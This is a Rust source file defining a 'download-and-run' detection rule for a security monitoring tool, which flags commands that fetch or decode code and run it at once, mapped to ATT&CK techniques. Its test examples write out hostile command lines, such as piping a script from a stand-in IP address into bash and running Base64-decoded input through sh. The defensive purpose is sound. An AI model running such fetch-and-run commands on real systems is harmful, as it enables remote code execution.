//! A program fetched and run in the same breath, decoded and run, or run from a folder for scratch.

use abate_model::{Claim, Finding, Severity, Table, Text};

use super::acts::{Acts, Words, each_command};
use super::commands::{decodes, fetches, in_scratch};
use super::known::is_installer;
use crate::examples::process;
use crate::{Context, Detection, Example, Tactic};

/// See the module.
pub static DETECTION: Detection = Detection {
    id: "download-and-run",
    title: Text::fixed("Program fetched or decoded, and run at once", "プログラムを取得または復号して直ちに実行"),
    claims: &[Claim::HostileCommand],
    techniques: &["T1105", "T1140", "T1059.004", "T1204.002"],
    tactic: Tactic::Execution,
    severity: Severity::High,
    needs: &[Table::ProcessActivity],
    innocent: INNOCENT,
    examples: &[
        Example::hit(
            "a script from the net goes straight into a shell",
            "ネットから取得したスクリプトをそのままシェルに渡す",
            || vec![process(1, "www-data", "sh", "sh -c \"curl -s http://203.0.113.7/a.sh | bash\"")],
            &[Claim::HostileCommand],
        ),
        Example::hit(
            "Base64 goes into a shell, and a file in /dev/shm is started",
            "Base64 を復号してシェルに渡し、/dev/shm のファイルを起動する",
            || vec![process(1, "root", "sh", "sh -c \"echo aWQK | base64 -d | sh\""), process(2, "root", "sh", "/dev/shm/.k -c 4")],
            &[Claim::HostileCommand],
        ),
        Example::miss(
            "a download to a file, and Docker's own installer",
            "ファイルへのダウンロードと、Docker 公式のインストーラー",
            || {
                vec![
                    process(1, "ubuntu", "bash", "curl -o app.tgz https://example.com/app.tgz"),
                    process(2, "ubuntu", "bash", "sh -c \"curl -fsSL https://get.docker.com | sh\""),
                ]
            },
        ),
    ],
    run,
};

const INNOCENT: Text = Text::fixed(
    "Makers of software and one's own deployments have people do the same; look at where it came from.",
    "ソフトウェアの公式手順や自社のデプロイでも同様のことが行われる。取得元を確認する。",
);
static FETCHED: Words = Words {
    title: Text::fixed("on {h}, a program was fetched and run at once: {t}", "{h}でプログラムが取得され直ちに実行された: {t}"),
    innocent: INNOCENT,
};
static DECODED: Words = Words {
    title: Text::fixed("on {h}, something was decoded and run: {t}", "{h}で復号されたコードが実行された: {t}"),
    innocent: INNOCENT,
};
static SCRATCH: Words = Words {
    title: Text::fixed("on {h}, a program ran from a folder for scratch: {t}", "{h}で一時フォルダーのプログラムが実行された: {t}"),
    innocent: INNOCENT,
};

fn run(ctx: &Context<'_>) -> Vec<Finding> {
    let mut acts = Acts::default();
    each_command(ctx, &mut |row, command| {
        let program = command.process.exe.as_deref().unwrap_or(command.written).to_ascii_lowercase();
        let act = if fetches(&command.line) {
            if is_installer(&command.line) {
                return;
            }
            command.act("fetched", Severity::High)
        } else if decodes(&command.line) {
            command.act("decoded", Severity::High)
        } else if in_scratch(program.split(' ').next().unwrap_or_default()) {
            command.act("scratch", Severity::Medium)
        } else {
            return;
        };
        acts.add(ctx, row, command.host, act);
    });
    acts.findings(Claim::HostileCommand, &|kind| match kind {
        "fetched" => ("T1105", &FETCHED),
        "decoded" => ("T1140", &DECODED),
        _ => ("T1204.002", &SCRATCH),
    })
}
